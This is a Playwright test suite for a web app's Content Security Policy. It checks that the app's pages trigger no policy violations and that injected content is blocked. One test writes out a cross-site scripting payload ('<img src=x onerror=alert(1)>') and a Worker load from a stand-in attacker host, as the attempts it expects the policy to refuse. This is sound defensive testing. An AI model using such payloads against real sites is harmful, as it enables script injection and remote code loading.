import { expect, type Page } from '@playwright/test';
import { isShown } from './support/accessible.js';
import { test } from './support/tidy.js';
import { visit } from './support/visitor.js';

/** What the policy of the pages refuses from now on. */
async function refusals(page: Page): Promise<string[]> {
  const found: string[] = [];
  await page.exposeFunction('noteRefusal', (line: string) => found.push(line));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const { noteRefusal } = window as unknown as { noteRefusal: (line: string) => void };
      noteRefusal(`${location.pathname}: ${event.effectiveDirective} ${event.sample} ${event.blockedURI}`);
    });
  });
  return found;
}

test('the pages need nothing that their policy refuses', async ({ browser }) => {
  const page = await visit(browser, 'admin');
  const found = await refusals(page);
  // Pictures and posters, workers, scroll areas, frames, virtual lists.
  for (const path of ['/', '/bracket/', '/match/1/r3m1/', '/seasons/1/replay/', '/prove/', '/admin/audit/']) {
    await page.goto(path);
    await isShown(page);
  }
  await page.goto('/admin/general/phase/');
  // A dialog locks scrolling with a style of its own.
  await page.getByRole('button', { name: 'Switch to phase 1, Registration' }).click();
  await expect(page.getByRole('dialog')).toBeVisible();
  expect(found).toEqual([]);
});

test('markup and scripts of other sites are refused, also where text becomes markup', async ({ page }) => {
  const found = await refusals(page);
  await page.goto('/rules/');
  await isShown(page);
  const outcome = await page.evaluate(() => {
    const refused = (attempt: () => void): boolean => {
      try {
        attempt();
        return false;
      } catch {
        return true;
      }
    };
    const style = document.createElement('style');
    style.textContent = 'h1 { color: rgb(1, 2, 3) }';
    document.head.append(style);
    document.body.setAttribute('style', 'outline: 3px solid');
    return {
      markup: refused(() => (document.body.innerHTML = '<img src=x onerror=alert(1)>')),
      worker: refused(() => new Worker('https://evil.example/x.js')),
      style: getComputedStyle(document.querySelector('h1')!).color === 'rgb(1, 2, 3)',
      attribute: document.body.style.outlineWidth,
    };
  });
  expect(outcome).toEqual({ markup: true, worker: true, style: false, attribute: '' });
  await expect.poll(() => found.filter((line) => line.includes('style-src'))).toHaveLength(2);
});
